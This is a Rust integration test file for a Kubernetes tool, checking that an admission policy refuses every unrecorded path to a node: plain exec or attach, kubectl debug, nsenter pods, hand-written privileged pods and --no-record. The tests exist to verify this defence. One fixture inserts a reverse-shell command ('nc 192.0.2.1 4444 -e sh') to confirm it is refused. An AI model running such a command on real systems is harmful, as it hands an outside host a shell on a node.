//! `toolbox policy --require-recording | kubectl apply -f -`: in the
//! namespace, a member's recorded toolbox session works, and every other
//! way to a node is refused by the API server with the policy's message: a
//! plain `kubectl exec` or `kubectl attach` into a toolbox pod, `kubectl
//! debug node/`, kubectl-node-shell's `kubectl run`, a hand-written pod, and
//! toolbox's own `--no-record`. Once on a simulated node, whose stand-in
//! recorder runs the command (what is judged there is admission, which is
//! the same), and once on the real node with the real recorder.

use harness::{
    NODE_SHELL_NSENTER, NodeSpec, TestNs, kubectl_node_shell_overrides, random_suffix,
    recorder_records_with, stderr_of, stdout_of,
};

/// The name of the recording policy and its binding in `ns`.
fn policy_name(ns: &TestNs) -> String {
    format!("toolbox-node-access-{}-recording", ns.name)
}

/// What every refusal of the recording policy says, after the API server's
/// "ValidatingAdmissionPolicy 'NAME' with binding 'NAME' denied request: ".
fn refused_for_recording(ns: &TestNs, stderr: &str) -> bool {
    let name = policy_name(ns);
    stderr.contains(&format!(
        "ValidatingAdmissionPolicy '{name}' with binding '{name}' denied request: recording is required in namespace {}: ",
        ns.name
    )) && stderr.contains("; use toolbox node-shell or debug-node, which record; --no-record is not allowed here")
}

/// `kubectl create --dry-run=server` of `pod` (JSON) as `member`: its stderr
/// when refused, None when admitted.
fn refusal_of(ns: &TestNs, pod: &serde_json::Value, member: &[&str]) -> Option<String> {
    let out = ns
        .kubectl()
        .args(["create", "--dry-run=server", "-f", "-"])
        .args(member)
        .write_stdin(pod.to_string())
        .output()
        .unwrap();
    (out.status.code() != Some(0)).then(|| stderr_of(&out))
}

/// A pod written by hand in the shape of toolbox's recorded pods (the
/// recording contract): privileged with the host's PID namespace, holding
/// the pod open with sleep, the recorder from an init container of the
/// recorder image, the node's sessions directory and the pod's identity.
fn recordable_pod(node: &str, recorder_image: &str) -> serde_json::Value {
    let env: Vec<serde_json::Value> = [
        ("TOOLBOX_SESSION_POD", "metadata.name"),
        ("TOOLBOX_SESSION_NAMESPACE", "metadata.namespace"),
        ("TOOLBOX_SESSION_NODE", "spec.nodeName"),
        (
            "TOOLBOX_SESSION_USER",
            "metadata.annotations['toolbox.dev/requested-by']",
        ),
    ]
    .into_iter()
    .map(|(name, path)| serde_json::json!({ "name": name, "valueFrom": { "fieldRef": { "fieldPath": path } } }))
    .collect();
    serde_json::json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": { "name": format!("by-hand-{}", random_suffix()) },
        "spec": {
            "nodeName": node, "hostPID": true, "activeDeadlineSeconds": 600, "restartPolicy": "Never",
            "initContainers": [{
                "name": "toolbox-recorder", "image": recorder_image,
                "command": ["/toolbox/bin/toolbox-recorder", "install", "/toolbox/install/toolbox-recorder"],
                "volumeMounts": [{ "name": "toolbox-recorder", "mountPath": "/toolbox/install" }]
            }],
            "containers": [{
                "name": "shell", "image": "busybox:1.37", "command": ["sleep", "600"],
                "securityContext": { "privileged": true },
                "env": env,
                "volumeMounts": [
                    { "name": "toolbox-recorder", "mountPath": "/toolbox/bin", "readOnly": true },
                    { "name": "toolbox-sessions", "mountPath": "/toolbox/sessions" }
                ]
            }],
            "volumes": [
                { "name": "toolbox-recorder", "emptyDir": {} },
                { "name": "toolbox-sessions", "hostPath": { "path": "/var/log/toolbox/sessions", "type": "DirectoryOrCreate" } }
            ]
        }
    })
}

#[tokio::test]
async fn where_recording_is_required_only_a_recorded_session_reaches_a_node() {
    let mut ns = TestNs::new("require-rec").await;
    let node = ns.node("n", NodeSpec::default()).await;
    let group = format!("oncall-{}", random_suffix());
    let member = ["--as", "dev", "--as-group", group.as_str()];

    // The recorder image is the recorder_image setting's, as the members'
    // toolbox has it; the policy is picked up on its own schedule.
    let yaml = ns
        .require_recording(&group, &node, "busybox:1.37", false)
        .await;
    let recorder_image = "ghcr.io/toolbox-dev/node-tools:v0.1.0";
    assert!(
        yaml.contains(&format!(
            "attributable and recorded (recorder {recorder_image})"
        )),
        "{yaml}"
    );

    // A member's recorded session works: its exec runs the recorder.
    let token = random_suffix();
    let out = ns
        .toolbox()
        .args(["node-shell", &node])
        .args(member)
        .args(["--", "echo", &format!("recorded-{token}")])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout_of(&out),
        stderr_of(&out)
    );
    assert_eq!(stdout_of(&out), format!("recorded-{token}\n"));
    assert!(
        recorder_records_with(&token)
            .iter()
            .any(|r| r.args[0] == "record"),
        "the exec went through the recorder"
    );

    // --no-record: refused at create, in one line that names the policy.
    let out = ns
        .toolbox()
        .args(["node-shell", &node, "--no-record"])
        .args(member)
        .args(["--", "true"])
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "the cluster's ValidatingAdmissionPolicy {} refused it",
            policy_name(&ns)
        )),
        "{stderr}"
    );

    // A stream-less run: the recorder's `run` as the pod's own process is
    // admitted recorded, and refused unrecorded.
    let out = ns
        .toolbox()
        .args(["node-shell", &node, "--no-stream"])
        .args(member)
        .args(["--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert_eq!(
        stdout_of(&out),
        format!("{node}: {node}\n"),
        "the stage's report"
    );
    let out = ns
        .toolbox()
        .args(["node-shell", &node, "--no-stream", "--no-record"])
        .args(member)
        .args(["--", "true"])
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    // A run's node that admission refuses could not run: exit 6.
    assert_eq!(out.status.code(), Some(6), "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    assert!(
        stderr.contains("could not run (refused by admission)"),
        "{stderr}"
    );

    // A plain kubectl exec into a toolbox pod, by the member who started
    // it: refused by the API server before any stream opens.
    let out = ns
        .toolbox()
        .args(["node-shell", &node, "--keep"])
        .args(member)
        .args(["--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let kept = ns.toolbox_pods().await;
    assert_eq!(kept.len(), 1, "{kept:?}");
    let kept = kept[0].metadata.name.clone().unwrap();
    let out = ns
        .kubectl()
        .args(["exec", &kept])
        .args(member)
        .args(["--", "sh", "-c", "true"])
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    assert!(
        stderr.contains("an exec here must run /toolbox/bin/toolbox-recorder record"),
        "{stderr}"
    );
    // Nor may anyone attach: the member has no right to, and the policy
    // refuses even the admin, who has every right.
    let out = ns
        .kubectl()
        .args(["attach", &kept])
        .args(member)
        .output()
        .unwrap();
    assert!(
        stderr_of(&out).contains("cannot create resource \"pods/attach\""),
        "{}",
        stderr_of(&out)
    );
    let out = ns.kubectl().args(["attach", &kept]).output().unwrap();
    let stderr = stderr_of(&out);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    assert!(stderr.contains("attach is refused here"), "{stderr}");
    ns.delete_pod_now(&kept).await;

    // kubectl debug node/: its pod runs the image's own command, carries no
    // recorder, and is refused.
    let out = ns
        .kubectl()
        .args(["debug", &format!("node/{node}"), "--image", "busybox:1.37"])
        .args(["--profile", "sysadmin"])
        .args(member)
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    // Before 1.36 nothing gives its pod a lifetime, and the node-access
    // policy may be the one that says no first.
    assert!(
        refused_for_recording(&ns, &stderr)
            || (ns.env.minor() < 36 && stderr.contains("must ask for a lifetime")),
        "{stderr}"
    );

    // kubectl-node-shell's `kubectl run`: stdin and a TTY to attach to. A
    // lifetime is added, so that only recording is judged on every release.
    let command: Vec<&str> = NODE_SHELL_NSENTER
        .iter()
        .copied()
        .chain(["--", "sh"])
        .collect();
    let mut overrides: serde_json::Value = serde_json::from_str(&kubectl_node_shell_overrides(
        &node,
        None,
        "busybox:1.37",
        true,
        &command,
    ))
    .unwrap();
    overrides["spec"]["activeDeadlineSeconds"] = serde_json::json!(600);
    let out = ns
        .kubectl()
        .args(["run", &format!("nsenter-{}", random_suffix())])
        .args(["--image", "busybox:1.37", "--restart=Never"])
        .arg(format!("--overrides={overrides}"))
        .args(member)
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    assert!(stderr.contains("may keep stdin or a TTY open"), "{stderr}");

    // By hand: the recorder's shape is admitted; the same with a shell in
    // place of the holder, or the sessions directory left out, is not.
    let recordable = recordable_pod(&node, recorder_image);
    assert_eq!(refusal_of(&ns, &recordable, &member), None);
    let mut reverse_shell = recordable.clone();
    reverse_shell["spec"]["containers"][0]["command"] =
        serde_json::json!(["sh", "-c", "nc 192.0.2.1 4444 -e sh"]);
    let refused = refusal_of(&ns, &reverse_shell, &member).unwrap_or_default();
    assert!(refused_for_recording(&ns, &refused), "{refused}");
    assert!(refused.contains("may only hold the pod open"), "{refused}");
    // Left out: a pod outside the host's PID namespace mounts the node's
    // directory or its recorder cannot reach it; one inside may not mount
    // something else in its place (an emptyDir would keep the copy in the pod).
    let mut unfiled = recordable.clone();
    unfiled["spec"]["containers"][0]["volumeMounts"]
        .as_array_mut()
        .unwrap()
        .pop();
    unfiled["spec"]["hostPID"] = serde_json::json!(false);
    let refused = refusal_of(&ns, &unfiled, &member).unwrap_or_default();
    assert!(
        refused.contains("must mount the node's /var/log/toolbox/sessions"),
        "{refused}"
    );
    let mut diverted = recordable.clone();
    diverted["spec"]["volumes"][1] =
        serde_json::json!({ "name": "toolbox-sessions", "emptyDir": {} });
    let refused = refusal_of(&ns, &diverted, &member).unwrap_or_default();
    assert!(
        refused.contains("must mount the node's /var/log/toolbox/sessions"),
        "{refused}"
    );

    // No pod of any of those tools was made.
    let left: Vec<String> = ns
        .pods()
        .list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|p| p.metadata.deletion_timestamp.is_none())
        .filter_map(|p| p.metadata.name)
        .collect();
    assert!(left.is_empty(), "{left:?}");

    // compare says that recording is required, and what that means.
    let out = ns
        .toolbox()
        .args(["compare", &node])
        .env("COLUMNS", "400")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let table = stdout_of(&out);
    assert!(
        table.contains(&format!(
            "required by ValidatingAdmissionPolicy {}",
            policy_name(&ns)
        )),
        "{table}"
    );
    let out = ns
        .toolbox()
        .args(["compare", &node, "-o", "json"])
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let recording = &report["checks"]["recording"];
    assert_eq!(recording["requirement"]["state"], "required", "{recording}");
    assert_eq!(
        recording["requirement"]["recorderImage"], recorder_image,
        "{recording}"
    );
    let works: Vec<(&str, bool)> = recording["approaches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["approach"].as_str().unwrap(), a["works"] == true))
        .collect();
    assert_eq!(
        works,
        [
            ("toolbox node-shell / debug-node (recorded)", true),
            ("toolbox --no-record", false),
            ("kubectl debug node/, kubectl-node-shell", false),
            ("kubectl exec or attach into a toolbox pod", false),
        ]
    );

    // kubectl delete -f of the same output removes the recording policy too.
    ns.delete_yaml(&yaml);
    for kind in [
        "validatingadmissionpolicy",
        "validatingadmissionpolicybinding",
    ] {
        let out = ns
            .kubectl()
            .args([
                "get",
                kind,
                &policy_name(&ns),
                "--ignore-not-found",
                "-o",
                "name",
            ])
            .output()
            .unwrap();
        assert_eq!(stdout_of(&out), "", "{kind} is left");
    }
    ns.finish().await;
}

/// On the real node, with the real recorder: the policy pins the recorder
/// image of the members' settings (the local node-tools image), a member's
/// session there is recorded under the name the API server gave it, the
/// recorder's own `index` is let through, and a plain exec and
/// `--no-record` are not.
#[tokio::test]
async fn on_the_real_node_a_member_s_session_is_recorded_and_nothing_else_gets_in() {
    let ns = TestNs::new("require-rec-real").await;
    let node = harness::real_node();
    let group = format!("oncall-{}", random_suffix());
    let member = ["--as", "dev", "--as-group", group.as_str()];
    let yaml = ns
        .require_recording(&group, &node.name, &node.image, true)
        .await;
    assert!(
        yaml.contains(&format!("recorded (recorder {})", node.image)),
        "{yaml}"
    );

    let token = random_suffix();
    let out = ns
        .toolbox_on_real_node()
        .args(["node-shell", &node.name, "--keep"])
        .args(member)
        .args(["--", "echo", &format!("recorded-{token}")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert_eq!(stdout_of(&out), format!("recorded-{token}\n"));
    let kept = ns.toolbox_pods().await;
    assert_eq!(kept.len(), 1, "{kept:?}");
    let kept = kept[0].metadata.name.clone().unwrap();

    // The recorder's index, as a member runs it: the session is on the
    // node, named after the member and this namespace.
    let out = ns
        .kubectl()
        .args(["exec", &kept])
        .args(member)
        .args(["--", "/toolbox/bin/toolbox-recorder", "index"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let ours: Vec<serde_json::Value> = stdout_of(&out)
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|entry| entry["header"]["toolbox"]["namespace"] == ns.name.as_str())
        .collect();
    assert_eq!(ours.len(), 1, "{ours:?}");
    assert_eq!(ours[0]["header"]["toolbox"]["user"], "dev", "{ours:?}");
    assert_eq!(ours[0]["header"]["toolbox"]["pod"], kept.as_str());
    assert_eq!(ours[0]["exit"], 0, "{ours:?}");

    // A plain exec into the same pod, by the same member: refused.
    let out = ns
        .kubectl()
        .args(["exec", &kept])
        .args(member)
        .args(["--", "sh", "-c", "true"])
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");
    ns.delete_pod_now(&kept).await;

    // --persist: its idle holder is let through, and the reuse is an exec
    // through the recorder like the first session's.
    for round in ["first", "reused"] {
        let out = ns
            .toolbox_on_real_node()
            .args(["node-shell", &node.name, "--persist", "5m"])
            .args(member)
            .args(["--", "echo", round])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{round}: {}", stderr_of(&out));
        assert_eq!(stdout_of(&out), format!("{round}\n"));
    }
    let persisting = ns.toolbox_pods().await;
    assert_eq!(persisting.len(), 1, "one pod, reused: {persisting:?}");
    ns.delete_pod_now(persisting[0].metadata.name.as_deref().unwrap())
        .await;

    // --no-record: refused at create, one line.
    let out = ns
        .toolbox_on_real_node()
        .args(["node-shell", &node.name, "--no-record"])
        .args(member)
        .args(["--", "true"])
        .output()
        .unwrap();
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(refused_for_recording(&ns, &stderr), "{stderr}");

    ns.delete_yaml(&yaml);
    ns.finish().await;
}
